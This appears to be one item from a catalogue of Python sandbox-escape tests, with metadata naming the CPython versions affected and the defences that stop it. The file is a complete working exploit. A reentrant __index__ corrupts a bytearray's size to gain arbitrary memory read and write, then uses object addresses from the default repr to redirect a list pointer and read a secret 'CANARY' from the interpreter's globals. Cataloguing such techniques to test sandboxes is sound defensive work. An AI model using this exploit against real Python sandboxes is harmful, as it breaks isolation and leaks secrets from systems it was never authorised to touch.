# id: address-in-repr
# family: side-channel
# kind: information-leak
# invariant: C, G, K
# origin: found while probing CPython
# technique: the default repr tells where an object lies; with any way to write one wrong byte, that is what leads to the secret
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: process, supervisor, seccomp
# fix: specific
# alive-when: canary

victim = None


class Value:
    def __index__(self):
        global victim
        buffer.clear()
        victim = bytearray()
        buffer.extend(bytes(56))
        return 0x40


def address(thing):
    return int(object.__repr__(thing).split(" at 0x")[1].rstrip(">"), 16)


# One byte in the size of a bytearray makes it span all of memory, as in bytearray-setitem-index.
box = [None]
lies_at = address(box)
buffer = bytearray(56)
buffer[22] = Value()
items = int.from_bytes(victim[lies_at + 24 : lies_at + 32], "little")
kept = victim[items : items + 8]
globals_at = address(__import__) + 16
victim[items : items + 8] = victim[globals_at : globals_at + 8]
print(box[0]["CANARY"])
victim[items : items + 8] = kept
